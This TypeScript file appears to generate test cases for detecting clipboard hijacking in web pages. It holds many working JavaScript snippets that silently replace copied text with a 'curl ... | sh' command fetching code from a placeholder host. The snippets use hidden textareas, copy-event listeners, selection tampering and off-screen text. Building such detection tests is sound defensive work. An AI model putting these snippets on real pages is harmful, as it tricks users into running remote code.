import { createEffects } from './effect.ts'

const text = (token: string) => `'curl -s promo.example/${token} | sh'`
const field = (where: string, token: string) =>
  `var t=${where}.createElement('textarea');t.value=${text(token)};t.style.cssText='position:fixed;left:-99px;top:0;width:9px';${where}.body.appendChild(t);t.select();${where}.execCommand('copy');`

export const clipboardHijacks = [
  ...createEffects(
    'clipboard-hijack',
    'clipboard',
    {
      writeText: ({ token }) => `window.focus();navigator.clipboard.writeText(${text(token)})`,
      "the page's writeText": ({ token }) => `W.navigator.clipboard.writeText(${text(token)})`,
      'write with an item': ({ token }) =>
        `W.navigator.clipboard.write([new W.ClipboardItem({'text/plain':new W.Blob([${text(token)}],{type:'text/plain'})})])`,
      'borrowed writeText': ({ token }) => `Clipboard.prototype.writeText.call(W.navigator.clipboard,${text(token)})`,
      'bound writeText': ({ token }) =>
        `setTimeout(W.navigator.clipboard.writeText.bind(W.navigator.clipboard,${text(token)}),20)`,
      'fresh frame': ({ token }) =>
        `var f=D.createElement('iframe');f.style.display='none';D.body.appendChild(f);f.contentWindow.Clipboard.prototype.writeText.call(W.navigator.clipboard,${text(token)})`,
      'execCommand with a field': ({ token }) => field('document', token),
      'execCommand with a field of the page': ({ token }) => field('D', token),
      'execCommand with a handler': ({ token }) =>
        `D.addEventListener('copy',function(e){e.clipboardData.setData('text/plain',${text(token)});e.preventDefault()},{once:true});D.execCommand('copy')`,
      'cut from a field': ({ token }) => field('D', token).replace("execCommand('copy')", "execCommand('cut')"),
      'answers a promise with writeText': ({ token }) =>
        `W.Promise.resolve(${text(token)}).then(W.navigator.clipboard.writeText.bind(W.navigator.clipboard))`,
      'item with a promise': ({ token }) =>
        `W.navigator.clipboard.write([new ClipboardItem({'text/plain':Promise.resolve(new Blob([${text(token)}],{type:'text/plain'}))})])`,
      'execCommand with a selection': ({ token }) =>
        `var p=D.createElement('p');p.textContent=${text(token)};D.body.appendChild(p);W.getSelection().selectAllChildren(p);D.execCommand('copy');p.remove()`,
      'text in the page': ({ token }) => `W.Function('t','navigator.clipboard.writeText(t)')(${text(token)})`,
    },
    { needsActivation: true },
  ),
  ...createEffects(
    'clipboard-hijack',
    'copy',
    {
      'copy listener': ({ token }) =>
        `D.addEventListener('copy',function(e){e.clipboardData.setData('text/plain',${text(token)});e.preventDefault()})`,
      'copy listener on the window': ({ token }) =>
        `W.addEventListener('copy',function(e){e.preventDefault();e.clipboardData.setData('text/plain',${text(token)})},true)`,
      'copy property': ({ token }) =>
        `D.oncopy=function(e){e.clipboardData.setData('text/plain',${text(token)});return false}`,
      'copy attribute': ({ token }) =>
        `D.body.setAttribute('oncopy',"event.clipboardData.setData('text/plain','run ${token}');event.preventDefault()")`,
      'selection is changed': ({ token }) =>
        `D.addEventListener('copy',function(){var p=D.createElement('p');p.textContent=${text(token)};D.body.appendChild(p);W.getSelection().selectAllChildren(p)},true)`,
      'field that takes the focus': ({ token }) =>
        `D.addEventListener('keydown',function(e){if(e.key==='Control'){var t=D.createElement('textarea');t.value=${text(token)};t.style.cssText='position:fixed;left:-99px;width:9px';D.body.appendChild(t);t.select()}})`,
      'unseen text in the headline': ({ token }) =>
        `var s=D.createElement('span');s.textContent=${text(token)};s.style.cssText='position:absolute;left:-999px;font-size:1px';D.getElementById('headline').append(s)`,
      'selection is moved': ({ token }) =>
        `var p=D.createElement('p');p.textContent=${text(token)};p.style.cssText='position:fixed;left:-999px';D.body.appendChild(p);var n=0;D.addEventListener('selectionchange',function(){n++<9&&String(W.getSelection()).length>5&&W.getSelection().selectAllChildren(p)})`,
      'key listener that writes': ({ token }) =>
        `D.addEventListener('keydown',function(e){e.ctrlKey&&e.key==='c'&&setTimeout(function(){W.navigator.clipboard.writeText(${text(token)})},10)})`,
    },
    { isEarly: true, isNeverAllowed: true },
  ),
]
